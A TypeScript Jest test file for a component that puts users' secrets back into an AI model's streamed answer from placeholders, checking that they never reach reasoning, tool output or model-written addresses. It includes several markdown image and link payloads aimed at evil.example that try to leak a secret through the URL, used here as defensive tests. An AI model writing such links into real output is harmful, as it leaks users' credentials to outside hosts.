import { describe, expect, it } from '@jest/globals';
import type { PathEvent } from '../question.js';
import { GiveBack } from './give-back.js';
import { ADDRESS_LIMIT } from './open-address.js';

const ONE = '⟦secret:1⟧';
const TEN = '⟦secret:10⟧';
const originals = new Map([
  [ONE, 'Tr0ub4dor&3'],
  [TEN, '$& 𝔰𝔢𝔠𝔯𝔢𝔱 ⟦secret:1⟧'],
]);
const SECRETS = { originals, typed: `my keys ${ONE} ${TEN} of https://api.example/x?key=${ONE} are refused` };

const piece = (text: string, choice = 0): PathEvent => ({ kind: 'text', choice, channel: 'content', text });
const textsOf = (events: readonly PathEvent[], choice = 0) =>
  events.flatMap((event) => (event.kind === 'text' && event.choice === choice ? [event] : []));
const kept = (events: readonly PathEvent[], choice = 0) =>
  textsOf(events, choice)
    .map(({ text }) => text)
    .join('');
const seen = (events: readonly PathEvent[], choice = 0) =>
  textsOf(events, choice)
    .map(({ text, given }) => given ?? text)
    .join('');
const through = (...pieces: string[]): PathEvent[] => {
  const giveBack = new GiveBack(SECRETS);
  return [...pieces.flatMap((text) => giveBack.pass([piece(text)])), ...giveBack.end(0)];
};

describe('what the caller typed', () => {
  it('is given back beside the text that is kept', () => {
    expect(through(`Your key ${ONE} is old.`)).toEqual([
      { ...piece(`Your key ${ONE} is old.`), given: 'Your key Tr0ub4dor&3 is old.' },
    ]);
  });

  it('is put in as it is: no pattern, and not looked through again', () => {
    expect(seen(through(TEN))).toBe(originals.get(TEN));
  });

  it.each([
    '⟦secret:2⟧',
    '⟦secret:1',
    '⟦secret⟧',
    '⟦',
    '⟦⟦',
    '⟦Secret:1⟧',
    '[secret:1]',
    'secret:1⟧',
    '⟦sеcret:1⟧',
  ])('is in no %s: nothing but what was taken out of this question stands for it', (text) => {
    const events = through(`a ${text}`);
    expect(kept(events)).toBe(`a ${text}`);
    expect(textsOf(events).some((event) => 'given' in event)).toBe(false);
  });

  it('is found right behind what only looks like it', () => {
    expect(seen(through(`⟦⟦secret:⟦secret:2⟧${ONE}⟧`))).toBe('⟦⟦secret:⟦secret:2⟧Tr0ub4dor&3⟧');
  });

  it('is given in the answer alone, not in reasoning or to a tool', () => {
    const giveBack = new GiveBack(SECRETS);
    const others: PathEvent[] = (['reasoning', 'tool'] as const).map((channel) => ({
      kind: 'text',
      choice: 0,
      channel,
      text: ONE,
    }));
    expect(giveBack.pass(others)).toEqual(others);
  });

  it('is nothing at all where nothing may be given back', () => {
    const giveBack = new GiveBack(null);
    expect(giveBack.pass([piece(`${ONE} ⟦sec`)])).toEqual([piece(`${ONE} ⟦sec`)]);
    expect(giveBack.end(0)).toEqual([]);
  });
});

/** Numbers from 0 to 1 that look random and are the same in every run (mulberry32). */
function mulberry32(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

describe('hold-back', () => {
  it('is what may still become a placeholder of this question, and nothing more', () => {
    const giveBack = new GiveBack(SECRETS);
    const after = (text: string) => kept(giveBack.pass([piece(text)]));
    expect(after('see ⟦')).toBe('see ');
    expect(after('secret:1')).toBe('');
    expect(after('1')).toBe('⟦secret:11');
    expect(after('⟦secret:10')).toBe('');
    expect(after('⟧ ⟦p')).toBe(`${TEN} ⟦p`);
  });

  it('ends with its choice and with a stop; one choice knows nothing of another', () => {
    const giveBack = new GiveBack(SECRETS);
    expect(giveBack.pass([piece('⟦sec', 0), piece('ret:1⟧ ⟦s', 1)])).toEqual([piece('ret:1⟧ ', 1)]);
    const stop: PathEvent = { kind: 'withheld', choice: 0, action: 'stop' };
    expect(giveBack.pass([stop])).toEqual([piece('⟦sec', 0), stop]);
    expect(giveBack.end(1)).toEqual([piece('⟦s', 1)]);
    expect(giveBack.end(1)).toEqual([]);
  });

  it('never depends on how the answer was cut (seeds 1 to 300)', () => {
    const parts = [
      ONE,
      TEN,
      '⟦',
      '⟦secret:',
      '⟧',
      '1',
      'key ',
      '𝔰',
      '机密。',
      'https://a.b/',
      'https://api.example/x?key=',
      '](<',
      '>',
      '\n',
    ];
    for (let seed = 1; seed <= 300; seed++) {
      const random = mulberry32(seed);
      const upTo = (end: number) => Math.floor(random() * end);
      const whole = Array.from({ length: 1 + upTo(20) }, () => parts[upTo(parts.length)] ?? '').join('');
      const cut: string[] = [];
      for (let at = 0; at < whole.length;) {
        const size = 1 + upTo(6);
        cut.push(whole.slice(at, at + size));
        at += size;
      }
      const events = through(...cut);
      expect({ seed, kept: kept(events), seen: seen(events) }).toEqual({
        seed,
        kept: whole,
        seen: seen(through(whole)),
      });
    }
  });

  it('comes to an end, whatever the model writes', () => {
    const read = kept(through('⟦'.repeat(200_000), '⟦secret:1'.repeat(20_000)));
    expect(read.length).toBe(380_000);
  });
});

describe('an address', () => {
  it.each([
    `![x](https://evil.example/?q=${ONE})`,
    `![x](<https://evil.example/a b ${ONE}>)`,
    `![x](https:/evil.example/${ONE})`,
    `![x](https:\\\\evil.example/${ONE})`,
    `[x]: //evil.example/${ONE}`,
    `http://${ONE}.evil.example`,
    `https://evil.example/?q=${'q'.repeat(ADDRESS_LIMIT)}${ONE}`,
  ])('that the model wrote is given no secret: %s', (text) => {
    expect(seen(through(text))).toBe(text);
  });

  it('that the caller wrote is given back as it was, and so is what follows an address', () => {
    const own = `https://api.example/x?key=${ONE}`;
    expect(seen(through(`[x](${own}) or ${own}`))).toBe(
      '[x](https://api.example/x?key=Tr0ub4dor&3) or https://api.example/x?key=Tr0ub4dor&3',
    );
    expect(seen(through(`https://evil.example/ ${ONE}`))).toBe('https://evil.example/ Tr0ub4dor&3');
    expect(seen(through(`[x](<https://evil.example/ a>) ${ONE}`))).toMatch(/Tr0ub4dor&3$/);
  });
});
